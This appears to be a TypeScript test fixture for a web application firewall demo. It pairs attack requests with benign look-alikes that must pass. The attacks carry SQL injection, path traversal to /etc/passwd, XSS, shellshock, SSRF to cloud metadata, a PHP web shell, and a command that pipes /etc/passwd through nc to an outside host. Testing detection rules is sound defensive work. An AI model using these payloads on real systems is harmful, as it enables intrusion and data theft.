/**
 * Attacks in every place that a request can carry one, each with a twin that is alike and harmless: the attack has to
 * be blocked, by a rule of its kind, and the twin has to pass without a finding.
 */
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { allowed, type DemoOutcome, type DemoRequest, json, shop } from './requests.ts';

/** What an attack and its twin differ in. */
type Carrier = Pick<DemoRequest, 'path'> &
  Partial<Pick<DemoRequest, 'headers' | 'body' | 'trailers' | 'http2'>>;

/** Beginnings of rule ids: of the baseline, of the OWASP CRS. */
interface Kind {
  readonly baseline: string;
  readonly crs: string;
}

const sql: Kind = { baseline: 'baseline.sqli.', crs: '942' };
const script: Kind = { baseline: 'baseline.xss.', crs: '941' };
const traversal: Kind = { baseline: 'baseline.path-traversal.', crs: '930' };
const shellshock: Kind = { baseline: 'baseline.shellshock.', crs: '932' };
const command: Kind = { baseline: 'baseline.command-injection.', crs: '932' };
const forgery: Kind = { baseline: 'baseline.ssrf.', crs: '93' };
const php: Kind = { baseline: 'baseline.php-injection.', crs: '933' };

const form = [['content-type', 'application/x-www-form-urlencoded']] as const;
const boundary = 'kettle';
const upload = [['content-type', `multipart/form-data; boundary=${boundary}`]] as const;

function multipart(comment: string): string {
  const lines = [
    `--${boundary}`,
    'content-disposition: form-data; name="comment"',
    '',
    comment,
    `--${boundary}`,
    'content-disposition: form-data; name="photo"; filename="kettle.png"',
    'content-type: image/png',
    '',
    '\u0089PNG',
    `--${boundary}--`,
    '',
  ];
  return lines.join('\r\n');
}

function pair(name: string, kind: Kind, attack: Carrier, twin: Carrier): DemoRequest[] {
  const refused: DemoOutcome = { status: 403, verdict: 'block', rule: '', match: kind };
  return [request(name, attack, refused), request(`${name}: benign twin`, twin, allowed())];
}

function request(name: string, carrier: Carrier, expected: DemoOutcome): DemoRequest {
  const hasBody = carrier.body !== undefined || carrier.trailers !== undefined;
  return { name, method: hasBody ? 'POST' : 'GET', headers: [], hosts: shop, ...carrier, expected };
}

/** All attacks with their twins, in the order of the table. */
export const attackRequests: readonly DemoRequest[] = [
  ...pair(
    'SQL in the query',
    sql,
    { path: '/search?q=x%27+UNION+SELECT+card%2Cpin+FROM+customers--+' },
    { path: '/search?q=o%27neill+union+jack+mugs%2C+select+range' },
  ),
  ...pair(
    'traversal in the path',
    traversal,
    { path: '/files/..%2f..%2f..%2f..%2fetc%2fpasswd' },
    { path: '/files/price..list%2f2026.pdf' },
  ),
  ...pair(
    'script in a cookie',
    script,
    { path: '/', headers: [['cookie', 'theme=<script>fetch(document.cookie)</script>']] },
    { path: '/', headers: [['cookie', 'theme=script; size=2']] },
  ),
  ...pair(
    'shellshock in a header',
    shellshock,
    { path: '/', headers: [['x-client-version', '() { :; }; /usr/bin/id > /tmp/out']] },
    { path: '/', headers: [['x-client-version', '(beta); build 7']] },
  ),
  ...pair(
    'command in a form',
    command,
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=tea%3B+cat+%2Fetc%2Fpasswd+%7C+nc+203.0.113.9+80'],
    },
    { path: '/feedback', headers: form, body: ['name=Ann&note=tea%3B+cats+may+pass'] },
  ),
  ...pair(
    'forged request in JSON',
    forgery,
    {
      path: '/import',
      headers: json,
      body: ['{"feeds":[{"url":"http://169.254.169.254/latest/meta-data/iam/"}]}'],
    },
    { path: '/import', headers: json, body: ['{"feeds":[{"url":"https://feeds.shop.example/meta-data/"}]}'] },
  ),
  ...pair(
    'PHP in multipart',
    php,
    { path: '/reviews', headers: upload, body: [multipart("<?php system($_GET['c']); ?>")] },
    { path: '/reviews', headers: upload, body: [multipart('the system works <3')] },
  ),
  ...pair(
    'SQL in a gzip body',
    sql,
    {
      path: '/feedback',
      headers: [...form, ['content-encoding', 'gzip']],
      body: [gzipSync('name=Ann&note=1%27+OR+%271%27%3D%271%27+--+')],
    },
    {
      path: '/feedback',
      headers: [...form, ['content-encoding', 'gzip']],
      body: [gzipSync('name=Ann&note=one+or+two')],
    },
  ),
  ...pair(
    'script in a br body',
    script,
    {
      path: '/import',
      headers: [...json, ['content-encoding', 'br']],
      body: [brotliCompressSync('{"title":"<img src=x onerror=alert(document.domain)>"}')],
    },
    {
      path: '/import',
      headers: [...json, ['content-encoding', 'br']],
      body: [brotliCompressSync('{"title":"img src, and what onerror is for"}')],
    },
  ),
  ...pair(
    'SQL over two chunks, trailers',
    sql,
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=x%27+UNION+SEL', 'ECT+card%2Cpin+FROM+customers--+'],
      trailers: { 'x-checksum': '8f3a' },
    },
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=we+sel', 'ect+kettles+by+hand'],
      trailers: { 'x-checksum': '8f3a' },
    },
  ),
  ...pair(
    'shellshock in a trailer',
    shellshock,
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=', 'none'],
      trailers: { 'x-client-version': '() { :; }; /usr/bin/id > /tmp/out' },
    },
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=', 'none'],
      trailers: { 'x-client-version': '(beta); build 7' },
    },
  ),
  ...pair(
    'SQL over HTTP/2, no length',
    sql,
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=x%27+UNION+SELECT+card', '%2Cpin+FROM+customers--+'],
      http2: true,
    },
    {
      path: '/feedback',
      headers: form,
      body: ['name=Ann&note=tea', '+and+one+kettle'],
      http2: true,
    },
  ),
];
